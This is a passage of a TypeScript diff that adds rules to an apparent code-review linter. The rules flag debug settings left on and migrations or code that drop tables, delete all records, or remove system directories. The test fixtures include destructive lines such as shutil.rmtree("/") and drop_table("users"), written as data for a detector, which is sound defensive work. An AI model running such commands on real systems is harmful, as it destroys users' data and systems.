+      diff('app.py', '+app.run(port=8000)'),
+      diff('a.js', '+const debug = require("debug")'),
+      diff('test/settings.py', '+DEBUG = True'),
+    ],
+    patterns: [
+      [
+        /^\s*DEBUG\s*=\s*True\b|\bdebug\s*=\s*True\b|display_errors['"]?\s*,\s*(?:1|true|['"]on)|ALLOWED_HOSTS\s*=\s*\[\s*['"]\*['"]/i,
+        'It shows its insides to everybody.',
+      ],
+    ],
+  }),
+  lineRule({
+    id: 'code-drops-data',
+    category: 'code',
+    severity: 'high',
+    fix: 'Stop using it first, and drop it in a later change with a backup.',
+    where: isNewCode,
+    hits: [
+      diff('db/migrate/2_x.rb', '+    remove_column :users, :email'),
+      diff('m/2.py', '+def upgrade():', '+    op.drop_table("users")'),
+      diff('m/2.js', '+exports.up = knex =>', '+  knex.schema.dropTable("users")'),
+      diff('m/2.py', '+        migrations.RemoveField(model_name="user", name="email"),'),
+      diff('a.js', '+await User.deleteMany({})'),
+      diff('a.py', '+shutil.rmtree("/")'),
+    ],
+    misses: [
+      diff('m/2.py', '+def downgrade():', '+    op.drop_table("users")'),
+      diff('m/2.js', '+exports.down = knex =>', '+  knex.schema.dropTable("users")'),
+      diff('db/migrate/2_x.rb', '+    add_column :users, :email, :string'),
+      diff('test/a.test.js', '+await User.deleteMany({})'),
+      diff('a.js', '+await User.deleteMany({ expired: true })'),
+    ],
+    see(line, artifact) {
+      const { text, isTest } = line
+      if (isTest) return
+      if (
+        /\b(?:remove_column|drop_table|dropTable(?:IfExists)?|dropColumn|removeColumn|drop_column|RemoveField|DeleteModel|drop_join_table|DropTable|DropColumn|dropDatabase|dropCollection)\b\s*\(?\s*[:"'(\w]/.test(
+          text,
+        )
+      )
+        return !isInRollback(line, artifact) && 'It drops a table or column with what is in it.'
+      if (
+        /\.(?:deleteMany|destroy|delete_many|remove)\(\s*\{?\s*(?:\{\s*\}|where\s*:\s*\{\s*\}|truncate\s*:\s*true)\s*\}?\s*\)|\.objects\.all\(\)\.delete\(\)|\.(?:delete|destroy)_all\b|\.query\(\w+\)\.delete\(\)/.test(
+          text,
+        )
+      )
+        return 'It deletes all records.'
+      return (
+        /(?:rmtree|rmSync|rm_rf|rimraf(?:\.sync)?|removeAll|delete_dir)\s*\(\s*["'](?:\/|~|\/(?:etc|home|usr|var|srv|root)[^"']{0,20})["']/.test(
+          text,
+        ) && { detail: 'It deletes a directory of the system.', severity: 'blocker' as const }
+      )
+    },
+  }),
+]
+
+const isInRollback = (line: Line, { lines }: Artifact): boolean => {
+  for (let at = lines.indexOf(line); at >= 0 && at > lines.indexOf(line) - 200; at--) {
+    const { text = '', file } = lines[at] ?? {}
+    if (file !== line.file) return false
+    if (
+      /\b(?:exports?\.(?:down|rollback)|(?:def|function|async|public|void|static)\s+(?:down(?:grade)?|rollback)\b|\bDown\(|(?:^|\s)down\s*[:(=])/.test(
+        text,
+      )
+    )
+      return true
+    if (
+      /\b(?:exports?\.up|(?:def|function|async|public|void|static)\s+(?:up(?:grade)?|change)\b|\bUp\(|(?:^|\s)up\s*[:(=])/.test(
+        text,
+      )
+    )
+      return false
+  }
+  return false
+}
